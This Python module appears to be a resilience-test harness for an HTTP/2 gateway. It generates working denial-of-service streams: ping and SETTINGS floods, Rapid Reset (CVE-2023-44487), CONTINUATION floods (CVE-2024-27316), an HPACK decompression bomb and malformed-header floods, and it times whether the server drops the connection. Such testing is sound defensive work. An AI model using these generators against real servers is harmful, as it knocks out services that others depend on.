"""Clients of HTTP/2 that do harm. Each is a connection's bytes; how they get there is `pour`'s business."""

import selectors
import ssl
import time
from collections.abc import Iterator
from itertools import chain, count, islice, repeat

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from .gateway import OPEN
from .h2client import PREFACE, SETTINGS

BEGIN = PREFACE + SETTINGS
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", OPEN), (":path", "/here/nothing")]


def pour(wire: ssl.SSLSocket, pieces: Iterator[bytes], seconds: float) -> float | None:
    """Sends one piece after the other and reads what comes; after how many seconds the other side closed, if it did."""
    wire.setblocking(False)
    began, piece = time.monotonic(), b""
    with selectors.DefaultSelector() as ready:
        ready.register(wire, selectors.EVENT_READ)
        while (now := time.monotonic()) < began + seconds:
            piece = piece or next(pieces, b"")
            wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if piece else 0)
            ready.modify(wire, wanted)
            ready.select(0.2)
            try:
                if piece:
                    piece = piece[wire.send(piece) :]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                return time.monotonic() - began
            try:
                while wire.recv(65536):
                    pass
                return now - began
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                return now - began
    return None


def head(stream: int, block: bytes, *flags: str) -> bytes:
    return HeadersFrame(stream, block, flags=["END_STREAM", *flags]).serialize()


def many(frames: Iterator[bytes]) -> Iterator[bytes]:
    """A hundred frames in one piece."""
    while piece := b"".join(islice(frames, 100)):
        yield piece


def pings():
    return chain([BEGIN], repeat(PingFrame(0, b"12345678").serialize() * 500))


def settings():
    return chain([BEGIN], repeat(SettingsFrame(0).serialize() * 500))


def resets():
    """CVE-2023-44487: requests that are taken back at once."""
    encoder = Encoder()
    one = lambda n: head(n, encoder.encode(HEAD), "END_HEADERS") + RstStreamFrame(n, 8).serialize()  # noqa: E731
    return chain([BEGIN], many(one(n) for n in count(1, 2)))


def continuations():
    """CVE-2024-27316: a head that never ends."""
    encoder = Encoder()
    more = lambda n: encoder.encode([NeverIndexedHeaderTuple(f"x-{n}", "v" * 15000)])  # noqa: E731
    frames = (ContinuationFrame(1, more(n)).serialize() for n in count())
    return chain([BEGIN, head(1, encoder.encode(HEAD))], frames)


def empty_continuations():
    """The same, with frames of nothing."""
    return chain([BEGIN, head(1, Encoder().encode(HEAD))], repeat(ContinuationFrame(1, b"").serialize() * 500))


def bombs():
    """Heads of 16 KiB that unpack to 48 MiB each: one field of 3 KiB in the table, named by one byte over and over."""
    encoder = Encoder()
    start = encoder.encode([*HEAD, ("x-bomb", "v" * 3000)])
    # The newest entry of the dynamic table (RFC 7541, section 6.1).
    again = b"\xbe" * 16000
    block = lambda n: (start if n == 1 else encoder.encode(HEAD)) + again  # noqa: E731
    return chain([BEGIN], (head(n, block(n)[:16384], "END_HEADERS") for n in count(1, 2)))


def malformed():
    """Heads with a field that HTTP/2 does not have; each costs an answer."""
    encoder = Encoder()
    one = lambda n: head(n, encoder.encode([*HEAD, ("connection", "close")]), "END_HEADERS")  # noqa: E731
    return chain([BEGIN], many(one(n) for n in count(1, 2)))


def few_malformed():
    """Sixty-four of them, and then nothing."""
    return chain([BEGIN], islice(malformed(), 1, 2))


def silence():
    return iter([])


def half_a_preface():
    return iter([PREFACE[:12]])


def half_a_head():
    """A head whose end does not come."""
    return iter([BEGIN + head(1, Encoder().encode(HEAD))])
